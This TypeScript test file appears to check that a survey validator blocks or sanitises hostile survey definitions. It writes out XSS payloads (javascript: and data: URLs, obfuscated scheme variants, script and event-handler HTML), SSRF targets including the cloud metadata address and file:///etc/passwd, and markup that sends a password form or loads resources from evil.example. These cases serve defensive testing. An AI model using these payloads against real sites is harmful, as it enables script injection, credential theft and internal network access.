import type { JsonObject } from '#app/core/json.ts'
import {
  asking,
  askingAfter,
  draftOnly,
  harmless,
  publishes,
  publishesWith,
  Q,
  type SourceCase,
} from '../source-case.ts'

const image = (imageLink: string) => askingAfter({ type: 'image', name: 'i', imageLink })
const ending = (more: JsonObject) => ({ ...askingAfter(), ...more })
const html = (text: string) => askingAfter({ type: 'html', name: 'h', html: text })

/** Stands for the port of a listener that nobody may ever call. */
export const CANARY_PORT = 'CANARY_PORT'
const CANARY = `http://127.0.0.1:${CANARY_PORT}`

/** Where a survey would lead people, or our server. */
export const LINKS: readonly SourceCase[] = [
  draftOnly(
    'a survey can’t lead to a script',
    ending({ navigateToUrl: 'javascript:alert(1)' }),
    '/navigateToUrl',
    'Not an address of the web.',
  ),
  draftOnly(
    'a survey can’t lead to a script with a tab in it',
    ending({ navigateToUrl: 'java\tscript:alert(1)' }),
    '/navigateToUrl',
    'SurveyJS’s own filter lets it through.',
  ),
  draftOnly(
    'a survey can’t lead to a script with a line end in it',
    ending({ navigateToUrl: ' \u0001java\nscript:alert(1)' }),
    '/navigateToUrl',
    'Browsers leave these out.',
  ),
  draftOnly(
    'a survey can’t lead to data',
    ending({ navigateToUrl: 'data:text/html,<script>alert(1)</script>' }),
    '/navigateToUrl',
    'Not an address of the web.',
  ),
  draftOnly(
    'a survey can’t lead to a script on a condition',
    ending({ navigateToUrlOnCondition: [{ expression: '{a} = 1', url: 'javascript:alert(1)' }] }),
    '/navigateToUrlOnCondition',
    'Not an address of the web.',
  ),
  harmless(
    'a survey that leads to an object',
    ending({ navigateToUrl: { url: 'https://example.org' } }),
    'Passed over with a warning; or refused.',
  ),
  harmless(
    'a survey that leads elsewhere at its end',
    ending({ navigateToUrl: 'https://example.org/thanks' }),
    'If supported, by https alone.',
  ),
  draftOnly(
    'a picture is no script',
    image('javascript:alert(1)'),
    '/elements/1',
    'Not an address of the web.',
  ),
  draftOnly(
    'a picture is no web page',
    image('data:text/html,<script>alert(1)</script>'),
    '/elements/1',
    'Not a picture.',
  ),
  draftOnly(
    'a picture is no file of the machine',
    image('file:///etc/passwd'),
    '/elements/1',
    'Not an address of the web.',
  ),
  draftOnly(
    'a picture to pick is no script',
    asking({ type: 'imagepicker', choices: [{ value: 'a', imageLink: 'javascript:alert(1)' }] }),
    Q,
    'Not an address of the web.',
  ),
  draftOnly(
    'a map is no script',
    asking({ type: 'imagemap', imageLink: 'vbscript:x', areas: [{ value: 'a', coords: '1,1,1' }] }),
    Q,
    'Not an address of the web.',
  ),
  draftOnly(
    'a logo is no script',
    ending({ logo: 'javascript:alert(1)' }),
    '/logo',
    'Not an address of the web.',
  ),
  harmless(
    'a logo that is a drawing',
    ending({
      logo: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    }),
    'As an image it can’t run; or refused.',
  ),
]

/** Lists that SurveyJS’s server side would fetch. */
export const FETCHES: readonly SourceCase[] = [
  draftOnly(
    'choices are never fetched',
    asking({ type: 'dropdown', choicesByUrl: { url: `${CANARY}/choices` } }),
    Q,
    'The server would call whatever the author names.',
  ),
  draftOnly(
    'choices of machines inside are never fetched',
    asking({
      type: 'dropdown',
      choices: ['a'],
      choicesByUrl: { url: 'http://169.254.169.254/latest/meta-data' },
    }),
    Q,
    'Nor beside a list.',
  ),
  draftOnly(
    'choices of a column are never fetched',
    asking({
      type: 'matrixdynamic',
      columns: [{ name: 'c', cellType: 'dropdown', choicesByUrl: { url: `${CANARY}/column` } }],
    }),
    `${Q}/columns/0`,
    'At every level.',
  ),
  draftOnly(
    'choices in an entry are never fetched',
    asking({
      type: 'paneldynamic',
      templateElements: [{ type: 'checkbox', name: 'x', choicesByUrl: { url: `${CANARY}/entry` } }],
    }),
    `${Q}/templateElements/0`,
    'At every level.',
  ),
  draftOnly(
    'choices are not fetched from an address with a name in it',
    askingAfter({
      type: 'dropdown',
      name: 'b',
      choicesByUrl: { url: `${CANARY}/{a}`, path: 'x;y' },
    }),
    '/elements/1',
    'Answers would be sent there.',
  ),
  draftOnly(
    'choices named by text alone are not fetched',
    asking({ type: 'dropdown', choicesByUrl: `${CANARY}/text` }),
    Q,
    'Of the wrong shape, and an address.',
  ),
  harmless(
    'a survey that names a server of SurveyJS',
    ending({ surveyId: 'x', surveyPostId: 'y' }),
    'Nothing is sent there.',
  ),
]

/** HTML is made harmless, and the author is told. */
export const MARKUP: readonly SourceCase[] = [
  ...Object.entries({
    'a script in HTML goes': '<p>Hi</p><script>alert(1)</script>',
    'a handler in HTML goes': '<p onclick="alert(1)">Hi</p>',
    'a handler in capitals goes': '<P OnMouseOver=alert(1)>Hi</P>',
    'a frame in HTML goes': '<p>Hi</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    'a drawing in HTML goes': '<p>Hi</p><svg><script>alert(1)</script></svg>',
    'an xmp in HTML goes': '<p>Hi</p><xmp><script>alert(1)</script></xmp>',
    'a noscript in HTML goes':
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    'a script in a link goes': '<a href="java&#9;script:alert(1)">Hi</a>',
    'a form in HTML goes': '<form action="https://evil.example"><input name="password"></form>',
    'a style in HTML goes': '<style>@import url(https://evil.example/x.css)</style><p>Hi</p>',
    'a base in HTML goes': '<base href="https://evil.example/"><p>Hi</p>',
    'a refresh in HTML goes':
      '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Hi</p>',
    'a picture with a handler goes': '<img src=x onerror=alert(1)><p>Hi</p>',
  }).map(([name, text]) =>
    publishesWith('html_changed', name, html(text), 'Sanitised, with a warning.'),
  ),
  publishesWith(
    'html_changed',
    'a script in the closing words goes',
    ending({ completedHtml: '<h3>Thanks</h3><script>alert(1)</script>' }),
    'Sanitised, with a warning.',
  ),
  publishesWith(
    'html_changed',
    'a script in one language goes',
    askingAfter({
      type: 'html',
      name: 'h',
      html: { default: '<p>Hi</p>', de: '<p>Hallo</p><script>alert(1)</script>' },
    }),
    'In every language.',
  ),
  publishes(
    'tags that stay are no reason to warn',
    html('<p>Hi <strong>you</strong>, see <a href="https://example.org">this</a>.</p>'),
    'A positive control.',
  ),
  harmless(
    'ten thousand tags in tags',
    html(`${'<b>'.repeat(10_000)}x${'</b>'.repeat(10_000)}`),
    'In linear time.',
  ),
  harmless('ten thousand tags that are open', html('<'.repeat(100_000)), 'In linear time.'),
  draftOnly(
    'HTML is text',
    askingAfter({ type: 'html', name: 'h', html: ['<p>'] }),
    '/elements/1',
    'A string, or one for each language.',
  ),
]
